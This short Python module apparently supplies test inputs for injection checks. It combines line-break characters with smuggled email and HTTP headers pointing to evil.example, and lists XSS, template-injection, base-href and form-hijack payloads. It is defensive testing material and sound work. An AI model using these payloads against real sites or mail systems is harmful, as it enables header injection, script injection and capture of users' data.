"""Strings that end a header, a tag or a line where somebody forgot to guard it."""

from itertools import product

_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\x00",
    "\x0b",
    "\x0c",
    "\x85",
    "\u2028",
    "\u2029",
    "%0d%0a",
    "\r\n ",
    "\u560a\u560d",
    "\ud83d",
)
_HEADERS = (
    "Bcc: eve@evil.example",
    "Subject: won",
    "Content-Type: text/html",
    "Location: https://evil.example",
    "\r\n<b>",
)
_MARKUP = (
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</title><svg onload=alert(1)>", "<!--", "]]>",
    '" autofocus onfocus=alert(1) x="', "javascript:alert(1)", "{{7*7}}", "{% raw %}", "${7*7}", "%(brand)s", "&lt;b&gt;",
    "</form><form action=https://evil.example>", "<base href=https://evil.example>", "<meta http-equiv=refresh content=0>",
    "=?utf-8?q?x=0ABcc=3A_evil=40evil=2Eexample?=",
)  # fmt: skip


def injections() -> list[str]:
    """Return them all, without halves of characters, which no client can send in UTF-8."""
    headers = [f"Anne{end}{header}" for end, header in product(_ENDS, _HEADERS)]
    return [text.encode("utf-8", "replace").decode() for text in (*headers, *_MARKUP)]
